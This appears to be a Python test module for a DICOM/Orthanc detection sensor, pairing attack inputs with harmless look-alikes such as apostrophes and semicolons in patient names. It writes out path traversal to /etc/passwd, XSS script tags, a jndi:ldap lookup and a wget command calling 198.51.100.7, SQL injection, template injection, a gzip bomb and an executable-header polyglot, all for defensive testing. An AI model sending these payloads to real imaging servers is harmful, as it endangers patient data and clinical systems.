"""D15 to D22: what is left, and what is meant by it."""

from __future__ import annotations

import gzip
import warnings

from pynetdicom import build_context

from tests.analyst.uploads import DEFLATED, SC, bomb, clean_ct, part10, tampered, with_preamble
from tests.sensor.scu import (
    STUDY_FIND,
    STUDY_GET,
    SYNTAXES,
    Received,
    associate,
    encoded,
    find,
    get,
    keys,
    store_bytes,
)

from .means import (
    GET_CLASSES,
    ORTHANC,
    Target,
    asked,
    probe,
    stored,
    studies,
)


def polyglot(target: Target) -> None:
    asked(target, "POST", "/instances", with_preamble(b"MZ\x90\0\3\0\0\0\4"), ORTHANC)


def plain_file(target: Target) -> None:
    asked(target, "POST", "/instances", part10(clean_ct()), ORTHANC)


def changed_image(target: Target) -> None:
    received = Received()
    study = studies(target, 1)[0]
    with associate(
        target.address, [STUDY_GET, *GET_CLASSES], scp=GET_CLASSES, handlers=[received.handler]
    ) as association:
        get(association, keys(QueryRetrieveLevel="STUDY", StudyInstanceUID=study))
    data, syntax = next(iter(received.objects.values()))
    changed = tampered(data, syntax)
    stored(target, changed, str(changed.SOPClassUID))


def traversed(target: Target) -> None:
    with associate(target.address, [STUDY_FIND]) as association:
        wanted = keys(QueryRetrieveLevel="STUDY", PatientID="../../../../etc/passwd", StudyInstanceUID="")
        find(association, wanted)
    data = clean_ct()
    raw = encoded(data)
    context = build_context(str(data.SOPClassUID), [SYNTAXES[1]])
    with warnings.catch_warnings(), associate(target.address, [context]) as association:
        warnings.simplefilter("ignore")
        accepted = association.accepted_contexts[0]
        store_bytes(association, accepted, str(data.SOPClassUID), "1.2.840.99/../../../tmp/x", raw)


def several_uids(target: Target) -> None:
    """A list of UIDs has backslashes, and is no path."""
    with associate(target.address, [STUDY_FIND]) as association:
        wanted = keys(QueryRetrieveLevel="STUDY", StudyInstanceUID=studies(target, 2), PatientID="A/12.3")
        find(association, wanted)


def _queried(target: Target, **wanted: str) -> None:
    with associate(target.address, [STUDY_FIND]) as association:
        find(association, keys(QueryRetrieveLevel="STUDY", StudyInstanceUID="", **wanted))


def scripted(target: Target) -> None:
    _queried(target, PatientName="<script src=//x.example/a></script>")
    _queried(target, ReferringPhysicianName='"><img src=x onerror=alert(1)>')


def less_than(target: Target) -> None:
    _queried(target, PatientName="O<NEILL^ONE=1", StudyDescription="Thorax < 3 mm")


def jndi(target: Target) -> None:
    _queried(target, PatientName="${jndi:ldap://198.51.100.7/a}")
    probe(target, calling="{{7*7}}")


def braces(target: Target) -> None:
    _queried(target, PatientName="MEIER^{ANNA}", StudyDescription="$5 contrast {low}")


def injected(target: Target) -> None:
    _queried(target, PatientID="' OR '1'='1' --")
    asked(target, "GET", "/dicom-web/studies?PatientID=1%27%20UNION%20SELECT%20name%20FROM%20sqlite_master--")


def apostrophe(target: Target) -> None:
    _queried(target, PatientName="O'ORRAN^ANDREW; SELMA", PatientID="0815")


def commanded(target: Target) -> None:
    _queried(target, PatientName="a;wget http://198.51.100.7/x.sh")
    _queried(target, PatientID="$(id)")


def semicolon(target: Target) -> None:
    _queried(target, PatientName="IDA; CATHERINE", StudyDescription="Thorax; CAT scan; ID 12")


def bombed(target: Target) -> None:
    asked(target, "POST", "/instances", gzip.compress(bytes(48 << 20)), ORTHANC, Content_Encoding="gzip")


def deflated(target: Target) -> None:
    """An honest object in Deflated Explicit VR."""
    raw, data = bomb(repeated=1)
    stored(target, data, SC, raw, DEFLATED)
